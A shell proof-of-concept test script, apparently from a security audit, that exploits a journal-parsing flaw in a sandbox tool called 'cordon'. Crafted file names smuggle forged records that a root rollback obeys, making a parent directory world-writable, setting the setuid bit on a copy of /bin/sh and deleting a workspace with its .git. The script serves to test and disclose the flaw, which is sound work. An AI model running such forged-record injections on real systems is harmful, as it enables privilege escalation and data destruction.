#!/bin/sh
# Finding: the run's file names forge journal records (lib/changeset.c:
# parse_journal). A top-level directory whose name begins with whitespace
# shifts the parser (sscanf's "\n" directive eats the name's leading
# whitespace, but the length prefix still counts it); the rest of the
# journal is then read out of frame, and a record forged in a later name is
# obeyed by `cordon discard` (rollback of an interrupted apply), as root:
#   M 0 511 2\n..\n       -> fchmodat(workspace, "..", 0777): the parent of
#                            the workspace becomes world-writable
#   M 0 2541 4\ntool\n    -> a root-owned file of the workspace gets 04755
#   C 0 0 1\n.\n          -> rm_at(workspace, "."): the whole workspace,
#                            .git (protected) included, is deleted
# Usage (root): sh 01-journal-forge.sh [CORDON]
set -u
CORDON=${1:-$(dirname "$0")/../../build/cordon}
T=$(mktemp -d /tmp/atk-jf.XXXXXX)
mkdir -p "$T/parent/ws"
chmod 755 "$T/parent"
cd "$T/parent/ws" || exit 1
# A root-owned, non-setuid tool already in the workspace (an earlier run's
# output, applied as root, or anything of root's).
cp /bin/sh tool && chmod 755 tool
# The hostile run: review mode keeps its change set (the default overlay
# mode behaves the same when the apply at the end is interrupted).
"$CORDON" run --report "$T/rep.json" --workspace-mode review -- /bin/sh -c '
D=$(printf "\n\n5")
X=$(printf "aaaaaM 0 511 2\n..\nM 0 2541 4\ntool\nz")
mkdir "$D" && : > "$D/$X"' || { echo "run failed"; exit 1; }
d=$(python3 -c "import json,sys;print(json.load(open(sys.argv[1]))['changes']['dir'])" "$T/rep.json")
echo "change set: $d"
stat -c 'before: %A %U %n' "$T/parent" tool
# An apply that does not finish (killed: here by the test hook, as a
# SIGKILL, OOM kill or power loss would), then the operator rolls it back.
"$CORDON" apply --test-apply-crash-after 1 "$d" 2>/dev/null
echo "apply rc=$? (137: killed)"
"$CORDON" discard "$d"; echo "discard rc=$?"
stat -c 'after:  %A %U %n' "$T/parent" tool
v=0
if [ "$(stat -c %a "$T/parent")" = 777 ] || [ -u tool ]; then
	echo "VULNERABLE: the rollback obeyed records the run forged (chmod)"
	v=1
fi
# Second record kind: a forged C of "." wipes the workspace.
mkdir -p "$T/p2/ws/.git/hooks" && cd "$T/p2/ws" && echo keep > .git/hooks/pre-commit && echo keep > src.c
"$CORDON" run --report "$T/rep2.json" --workspace-mode review -- /bin/sh -c '
D=$(printf "\n\n5")
X=$(printf "aaaaaC 0 0 1\n.\nz")
mkdir "$D" && : > "$D/$X"' || { echo "run 2 failed"; exit 1; }
d=$(python3 -c "import json,sys;print(json.load(open(sys.argv[1]))['changes']['dir'])" "$T/rep2.json")
"$CORDON" apply --test-apply-crash-after 1 "$d" 2>/dev/null
"$CORDON" discard "$d" 2>&1; echo "discard rc=$?"
echo "workspace after the rollback: $(ls -A "$T/p2/ws" | tr '\n' ' ')"
if [ ! -e "$T/p2/ws/.git" ]; then
	echo "VULNERABLE: the rollback deleted the workspace (.git too)"
	v=1
fi
[ $v = 1 ] && exit 1
echo "held"
